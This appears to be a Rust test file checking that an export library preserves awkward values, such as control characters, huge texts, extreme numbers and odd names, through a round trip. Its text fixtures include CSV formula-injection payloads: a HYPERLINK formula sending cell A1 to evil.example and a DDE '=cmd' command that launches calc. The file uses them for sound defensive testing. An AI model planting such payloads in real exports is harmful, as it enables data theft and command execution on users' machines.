//! The rows that break exports, one by one.

use domain::Value;

use super::readers::assert_round_trip;
use super::{Cell, Kind, section, text};

/// Texts that some program along the way would run, cut, drop or mistake.
pub const TEXTS: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=1+1",
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\tleading tab",
    "\rleading return",
    "\nleading feed",
    "\r\nboth",
    "\0leading nought",
    "mid\0nought",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "  =after blanks",
    "\u{feff}=after a mark",
    "\u{a0}\u{200b}-1",
    "'already quoted",
    "''",
    "'=1",
    "\"",
    "\"\"",
    "a\"b",
    "a,b;c\td",
    "line\r\nline\nline\rline",
    "http://example.com/",
    "mailto:a@example.com",
    "internal:Sheet1!A1",
    "🙂👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "שלום עולם",
    "\u{202e}txet desrever",
    "Ελένη Жанна 山田",
    "e\u{301}",
    "_x0041_ and _x000D_ and _x005F_x0041_",
    "\u{1}\u{1f}\u{7f}\u{85}\u{2028}\u{fffe}\u{ffff}",
    "<b>&amp;</b> ]]> <!-- -->",
    " outer blanks ",
    " ",
    "",
    "0701234567",
    "1e5",
    "2024-01-02",
    "TRUE",
    "NULL",
    "{\"withheld\":\"no\"}",
];

#[test]
fn texts_survive() {
    let rows = TEXTS.iter().map(|&awkward| vec![text(awkward), text("after")]).collect();
    assert_round_trip(&[section("person", &[("note", Kind::Text), ("next", Kind::Text)], rows)]);
}

#[test]
fn long_texts_are_never_cut() {
    let long = "abcdefghij".repeat(4_000);
    let megabyte: String = "0123456789 åäö\n=🙂".chars().cycle().take(900_000).collect();
    let rows = vec![
        vec![text(&long), text("short"), text(&megabyte)],
        vec![text("x".repeat(32_767)), Cell::Value(Value::Null), text("x".repeat(32_768))],
        vec![text("🙂".repeat(16_384)), text("short"), text("\0".repeat(40_000))],
    ];
    assert_round_trip(&[section("note", &[("a", Kind::Text), ("b", Kind::Text), ("c", Kind::Integer)], rows)]);
}

#[test]
fn values_keep_every_digit() {
    let integers = [0, 1, -1, 999_999_999_999_999, 1_000_000_000_000_000, (1 << 53) - 1, 1 << 53, i64::MAX, i64::MIN];
    let decimals = [
        "0",
        "12.50",
        "-0.01",
        "-2",
        "0.000000000000001",
        "123456789012345678901234567890.123456789",
        "1e400",
        "NaN",
        "-Infinity",
        "007",
        "=1+1",
        "-1+1",
        "",
    ];
    let dates = ["2024-02-29", "0001-01-01", "9999-12-31", "=2024", "0000-00-00", ""];
    let moments = ["2024-02-29 12:00:01", "2024-02-29 12:00:01.123456+02", "infinity", "-1", "2024-02-29T12:00:01Z"];
    let mut values: Vec<Value> = integers.map(Value::Integer).into();
    values.extend(decimals.map(|text| Value::Decimal(text.to_owned())));
    values.extend(dates.map(|text| Value::Date(text.to_owned())));
    values.extend(moments.map(|text| Value::Timestamp(text.to_owned())));
    values.extend([Value::Null, Value::Bool(true), Value::Bool(false), Value::Text("-5".to_owned())]);
    values.extend([Value::Bytes(vec![]), Value::Bytes(vec![0, 255, 61]), Value::Bytes(vec![7; 100_000])]);

    let items = [vec![], vec![None], vec![Some("=1".to_owned()), None, Some("a; b".to_owned()), Some(String::new())]];
    values.extend(items.map(Value::List));

    // Every value in a column of every kind: SQLite stores what it is given.
    let kinds = [
        ("text", Kind::Text),
        ("integer", Kind::Integer),
        ("decimal", Kind::Decimal),
        ("boolean", Kind::Boolean),
        ("date", Kind::Date),
        ("timestamp", Kind::Timestamp),
        ("bytes", Kind::Bytes),
        ("list", Kind::List),
    ];
    let rows = values.iter().map(|value| vec![Cell::Value(value.clone()); kinds.len()]).collect();
    assert_round_trip(&[section("all", &kinds, rows)]);
}

#[test]
fn withheld_texts_are_notices_and_empty_sections_are_sections() {
    assert_round_trip(&[
        section("notes", &[("note", Kind::Text)], vec![vec![Cell::Withheld], vec![text("mine")]]),
        section("empty", &[("note", Kind::Text)], vec![]),
    ]);
    assert_round_trip(&[]);
}

#[test]
fn sections_and_fields_may_be_called_anything() {
    let names = ["about", "About this copy", "manifest", "History", "a/b", "a:b", "'", "\u{1}", "=x", "con", "CON"];
    let mut sections = Vec::new();
    for name in names {
        let mut filled = section(name, &[("id", Kind::Integer)], vec![vec![Value::Integer(1).into()]]);
        filled.head.label = name.to_owned();
        filled.head.fields[0].code = "=\"'é\u{1}".to_owned();
        filled.head.fields[0].label = format!("=label of {name}");
        sections.push(filled);
    }
    assert_round_trip(&sections);
}
